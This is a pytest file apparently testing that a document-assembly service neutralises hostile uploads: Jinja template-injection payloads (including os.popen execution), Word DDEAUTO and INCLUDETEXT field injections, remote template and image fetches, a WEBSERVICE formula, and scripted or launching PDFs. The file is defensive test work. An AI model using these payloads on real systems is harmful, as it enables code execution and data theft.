"""One dossier made in the chamber from everything hostile that may pass: nothing runs, leaks or is lost."""

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pytest

from assembler.canvas.build import build_canvas
from assembler.canvas.narrative import build_narrative
from assembler.models.plan import Plan
from assembler.models.vocabulary import Edition
from assembler.settings import Settings
from assembler.store import Store
from service.chamber.parent import run_task
from service.chamber.tasks import AssembleResult, AssembleTask, FileRef, UploadRef
from tests.hostile import office_files, pdf_files
from tests.hostile.outside import SECRET, Outside, listening, words_of
from tests.hostile.zips import entries_of, rewritten
from tests.journeys.hostile_texts import hostile_narrative, hostile_plan
from tests.journeys.small_upload import CODE, REGION
from tests.read.narratives import NS, run

TEMPLATES = ("{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}", "{%%p for x in range(9**9) %%} %s")
OTHERS = (
    "${{7*7}}",
    "{{r 7*7 }}",
    "{%tr endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{7*7}",
    "<%= 7*7 %>",
)


@dataclass
class Made:
    """The dossier, and what every file of it says."""

    result: AssembleResult
    outside: Outside
    trace: Path
    words: dict[str, str]
    pdf: bytes


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    folder = tmp_path_factory.mktemp("hostile")
    trace, store = folder / "execute", Store(folder / "store")
    with listening(folder) as outside:
        workbook = _workbook(_plan(trace), outside)
        attachments = {
            f"{maker.__name__}.pdf": maker()
            for maker in (
                pdf_files.scripted,
                pdf_files.launching,
                pdf_files.self_acting,
                pdf_files.form,
                pdf_files.carrier,
            )
        } | {"ailleurs.pdf": pdf_files.outside_stream(f"{outside.address}/x.png")}
        deposit = UploadRef(
            workbook=FileRef(name="canevas.xlsx", sha256=store.put(workbook)),
            narrative=FileRef(name="recit.docx", sha256=store.put(_narrative(outside, trace))),
            attachments=tuple(FileRef(name=n, sha256=store.put(pdf)) for n, pdf in attachments.items()),
        )
        settings = Settings(home=folder, offices=2, deadline_seconds=60.0)
        result = run_task(AssembleTask(upload=deposit, edition=Edition.WORKING), settings=settings)
        files = {file.path: store.get(file.sha256) for file in result.files}
        words = {path: words_of(path, content) for path, content in files.items()}
        yield Made(result, outside, trace, words, files["dossier.pdf"])


def _plan(trace: Path) -> Plan:
    plan = hostile_plan().plan
    first, *others = plan.actions
    texts = [template % trace for template in TEMPLATES]
    first = first.model_copy(update={"title": OTHERS[0], "summary": "\n".join((*texts, *OTHERS))})
    return plan.model_copy(update={"actions": (first, *others)})


def _workbook(plan: Plan, outside: Outside) -> bytes:
    """A free text is given by a formula that asks the web, its last answer kept in the file."""
    content = build_canvas(REGION, territory=REGION.territory(CODE), plan=plan)
    text = re.compile(rb'<c r="([A-Z]+\d+)"([^>]*?) t="inlineStr"><is><t[^>]*>(\{\{ 7\*7 \}\} n\d+)</t></is></c>')
    formula = rb'<c r="\1"\2 t="str"><f>WEBSERVICE("%s/")</f><v>\3</v></c>' % outside.address.encode()
    sheets = [name for name in entries_of(content) if name.startswith("xl/worksheets/sheet")]
    asking = rewritten(content, {name: lambda xml: text.sub(formula, xml) for name in sheets})
    assert asking != rewritten(content, dict.fromkeys(sheets, bytes))
    return asking


def _narrative(outside: Outside, trace: Path) -> bytes:
    content = build_narrative(REGION, REGION.territory(CODE), hostile_narrative())
    asks = (
        f'INCLUDETEXT "{outside.secret}"',
        f'INCLUDEPICTURE "{outside.address}/x.png" \\d',
        'DDEAUTO cmd "/k calc"',
        f'LINK Excel.Sheet "{outside.secret}"',
    )
    paragraphs = "".join(
        f"<w:p {NS}><w:fldSimple w:instr='{ask}'>{run(f'RESULTAT-{rank}')}</w:fldSimple></w:p>"
        for rank, ask in enumerate(asks)
    )
    typed = "".join(f"<w:p {NS}>{run(template % trace)}</w:p>" for template in TEMPLATES)
    mark = re.compile(rb"(Section mobilisation\.</w:t></w:r></w:p>)")
    added = (paragraphs + typed).encode().replace(b"\\", b"\\\\")
    asking = rewritten(content, {office_files.BODY: lambda xml: mark.sub(rb"\1" + added, xml, count=1)})
    assert asking != rewritten(content, {office_files.BODY: bytes})
    return office_files.with_relation(asking, "word/settings.xml", "attachedTemplate", f"{outside.address}/modele.dotm")


def test_no_template_of_a_person_is_run(made: Made) -> None:
    assert not made.trace.exists()
    plan = "".join(made.words["plan.docx"].split())
    for template in TEMPLATES:
        assert "".join((template % made.trace).split()) in plan


def test_every_injected_text_is_shown_as_it_was_typed(made: Made) -> None:
    sheet = made.words[f"fiches/{CODE}-A01.docx"]
    assert [text for text in OTHERS if text.replace("<", "&lt;").replace(">", "&gt;") not in sheet] == []


def test_nothing_was_fetched(made: Made) -> None:
    assert made.outside.requests == []


def test_no_local_file_is_in_any_file_of_the_dossier(made: Made) -> None:
    assert [path for path, words in made.words.items() if SECRET in words] == []


def test_fields_show_their_last_result_and_ask_nothing_again(made: Made) -> None:
    plan = made.words["plan.docx"]
    assert all(f"RESULTAT-{rank}" in plan for rank in range(4))
    for path, words in made.words.items():
        if path.endswith(".docx"):
            assert not re.search("INCLUDETEXT|INCLUDEPICTURE|DDEAUTO|modele.dotm", words), path


def test_no_formula_of_a_person_is_in_a_workbook_of_ours(made: Made) -> None:
    formulas = [f for p, w in made.words.items() if p.endswith(".xlsx") for f in re.findall("<f[ >].*?</f>", w)]
    assert formulas
    assert [formula for formula in formulas if "WEBSERVICE" in formula or "cmd" in formula] == []


def test_no_file_of_ours_points_outside_but_by_links_to_the_web(made: Made) -> None:
    for path, words in made.words.items():
        for link in re.findall(r"<Relationship [^>]*TargetMode=.External.[^>]*>", words):
            assert "/hyperlink" in link, (path, link)
            assert "file:" not in link, (path, link)


def test_the_dossier_holds_nothing_that_acts(made: Made) -> None:
    with pikepdf.open(io.BytesIO(made.pdf)) as pdf:
        assert not {"/OpenAction", "/AA", "/AcroForm"} & set(pdf.Root.keys())
        objects = [item for item in pdf.objects if isinstance(item, pikepdf.Dictionary | pikepdf.Stream)]
        assert {str(item.get("/S")) for item in objects} & {"/JavaScript", "/Launch", "/SubmitForm", "/GoToR"} == set()
        assert [item for item in objects if "/JS" in item or "/EF" in item or "/XFA" in item] == []
    for word in ("SCRIPT-HOSTILE", "LANCEMENT-HOSTILE", "FICHIER-HOSTILE", "XFA-HOSTILE"):
        assert word not in made.words["dossier.pdf"]


def test_the_answer_typed_in_a_form_stays_to_be_read(made: Made) -> None:
    assert "Reponselisible" in "".join(made.words["dossier.pdf"].split())


def test_what_was_taken_out_is_told_by_file(made: Made) -> None:
    assert {taken.file for taken in made.result.removed} == {
        *("scripted.pdf", "launching.pdf", "self_acting.pdf", "form.pdf", "carrier.pdf", "ailleurs.pdf")
    }
